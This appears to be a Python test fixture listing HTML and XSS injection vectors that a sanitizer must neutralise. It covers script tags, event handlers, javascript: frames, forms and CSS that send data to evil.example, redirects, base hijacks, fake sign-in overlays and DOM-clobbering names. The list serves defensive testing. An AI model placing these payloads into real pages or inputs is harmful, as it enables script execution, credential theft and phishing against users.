"""HTML in the text: every element and attribute that runs, fetches, sends or covers the page."""

SCRIPTS = {
    "a script": "<script>alert(1)</script>",
    "a script in mixed case": "<ScRiPt>alert(1)</sCrIpT>",
    "a script from elsewhere": "<script src=//evil.example/x.js></script>",
    "a script that is never closed": "<script src=//evil.example/x.js",
    "a script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a script with a slash": "<script/x>alert(1)</script/x>",
    "a script with a line end in its name": "<script\n>alert(1)</script\n>",
    "a script behind another bracket": "<<script>alert(1)//<</script>",
    "a script as a module": '<script type=module>import "//evil.example/x.js"</script>',
    "a table of imports": '<script type=importmap>{"imports":{"/x":"//evil.example"}}</script>',
    "a script with a nonce": '<script nonce="">alert(1)</script>',
    "a script in a paragraph": "words <script>alert(1)</script> words",
    "a script in emphasis": "**<script>alert(1)</script>**",
    "a script in a heading": "# <script>alert(1)</script>",
    "a script in a list": "- <script>alert(1)</script>\n  - <script>alert(2)</script>",
    "a script in a quotation": "> <script>\n> alert(1)\n> </script>",
    "a script without scripts": "<noscript><img src=x onerror=alert(1)></noscript>",
    "an end of noscript in a title": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'
    ),
}

HANDLERS = {
    "a picture that fails": "<img src=x onerror=alert(1)>",
    "a picture that fails, with slashes": "<img/src=x/onerror=alert(1)>",
    "a picture that fails, with accents": "<img src=`x` onerror=`alert(1)`>",
    "a picture that fails, with a form feed": "<img\fsrc=x\fonerror=alert(1)>",
    "a picture of many sizes": "<img srcset='//evil.example/x 1x' onerror=alert(1)>",
    "an old picture": "<image src=x onerror=alert(1)>",
    "a body that loads": "<body onload=alert(1)>",
    "a body that is shown": "<body onpageshow=alert(1) background=//evil.example/x>",
    "a drawing that loads": "<svg/onload=alert(1)>",
    "details that open": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "a field that takes the keyboard": "<input autofocus onfocus=alert(1)>",
    "a list that takes the keyboard": "<select autofocus onfocus=alert(1)></select>",
    "a text that takes the keyboard": "<textarea autofocus onfocus=alert(1)></textarea>",
    "a paragraph that takes the keyboard": "<p tabindex=1 autofocus onfocus=alert(1)>x</p>",
    "a button to be pressed": "<button onclick=alert(1) accesskey=j>x</button>",
    "words under a mouse": '<b onmouseover="alert(1)" onpointerenter=alert(1)>x</b>',
    "words that move": "<marquee onstart=alert(1)>x</marquee>",
    "a film": "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "a sound": "<audio src=//evil.example/x autoplay onloadstart=alert(1)></audio>",
    "a movement that ends": "<p style='animation:x 1s' onanimationend=alert(1)>x</p>",
    "a popover": "<div popover id=x onbeforetoggle=alert(1)>x</div><a popovertarget=x>y</a>",
    "a custom element": "<x-y onfocus=alert(1) contenteditable>x</x-y>",
    "an element of htmx": "<div hx-get=//evil.example hx-trigger=load hx-on::load=alert(1)>x</div>",
    "an element of htmx, as data": "<div data-hx-post=/x data-hx-trigger=load>x</div>",
    "a page that swaps": "<div hx-swap-oob=true id=ranking>x</div>",
}

FRAMES = {
    "a frame": '<iframe src="https://evil.example"></iframe>',
    "a frame of a script": '<iframe src="javascript:alert(1)"></iframe>',
    "a frame with its own page": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "a frame with a page by entities": "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "a set of frames": "<frameset><frame src=javascript:alert(1)></frameset>",
    "an object": "<object data=javascript:alert(1)></object>",
    "an object of another kind": "<object type=text/html data=//evil.example></object>",
    "something embedded": "<embed src=javascript:alert(1)>",
    "an applet": "<applet code=evil.class archive=//evil.example/x.jar></applet>",
    "a portal": "<portal src=https://evil.example></portal>",
    "a fenced frame": "<fencedframe src=https://evil.example></fencedframe>",
}

SENDING = {
    "a form": "<form action=https://evil.example><input name=password></form>",
    "a form of a script": "<form action=javascript:alert(1)><input type=submit>",
    "a button with another address": "<button formaction=javascript:alert(1)>Submit</button>",
    "a button of our form": '<button form="ranking" formaction="//evil.example">Submit</button>',
    "a field of our form": '<input form="ranking" name="ranking" value="[]">',
    "the end of our form": "</form><form action=//evil.example>",
    "a picture as a button": "<input type=image src=//evil.example/x formaction=//evil.example>",
    "an address that is pinged": "<a href=https://e.example ping=//evil.example>x</a>",
    "a key for another": "<keygen name=x>",
}

PAGE = {
    "another page": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "another page of a script": "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
    "another policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "another encoding": "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "another base": '<base href="https://evil.example/" target=_top>',
    "another style sheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "a page loaded ahead": "<link rel=prefetch href=//e.example><link rel=modulepreload href=/x>",
    "a name to be resolved": "<link rel=dns-prefetch href=//evil.example>",
    "another title": "<title>x</title></title><script>alert(1)</script>",
    "the end of the page": "</body></html><script>alert(1)</script>",
    "the end of the main part": "</div></article></main><h1>Signed out</h1>",
    "the rest as plain text": "<plaintext>x",
    "the rest as a text field": "<textarea>x",
    "the rest as an example": "<xmp><script>alert(1)</script>",
    "the rest as a title": "<title>x",
    "the rest as a comment": "<!-- x",
    "a dialog over all": "<dialog open>Sign in again</dialog>",
    "a template": "<template shadowrootmode=open><script>alert(1)</script></template>",
    "a slot": "<slot name=x onslotchange=alert(1)></slot>",
}

STYLES = {
    "a style": "<style>* { display: none }</style>",
    "a style that imports": "<style>@import '//evil.example/x.css';</style>",
    "a style that spies": "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "words over the page": '<p style="position:fixed;inset:0;z-index:9">Sign in again</p>',
    "words that fetch": '<p style="background:url(//evil.example/x)">x</p>',
    "an old expression": '<p style="width:expression(alert(1))">x</p>',
    "an old behaviour": '<p style="behavior:url(//evil.example/x.htc);-moz-binding:url(x)">x</p>',
    "a style by escapes": '<p style="background:\\75rl(//evil.example)">x</p>',
    "our own classes": '<p class="action-bar dialog control">Submit</p>',
    "hidden words": "<p hidden>one</p><p aria-hidden=true inert>two</p>",
}

NAMES = {
    "the id of our form": "<p id=ranking data-ready data-answers=9>x</p>",
    "the name of the cookie": "<img name=cookie><img name=getElementById>",
    "a form called as a global": "<form name=htmx><input name=config></form>",
    "two names that make a list": "<a id=config></a><a id=config name=url href=//evil.example>",
    "the body": "<form name=body><input id=attributes></form>",
    "an answer that is none": "<article class=answer data-candidate=x data-letter=Z>x</article>",
    "our announcement": "<p data-announce role=alert>Submitted.</p>",
    "a kept draft": '<script type=application/json id=kept-draft>{"tiers":[]}</script>',
    "roles and labels": "<p role=button aria-label=Submit aria-live=assertive>x</p>",
    "a prototype": "<p data-__proto__=x id=__proto__ name=constructor>x</p>",
}

VECTORS = SCRIPTS | HANDLERS | FRAMES | SENDING | PAGE | STYLES | NAMES
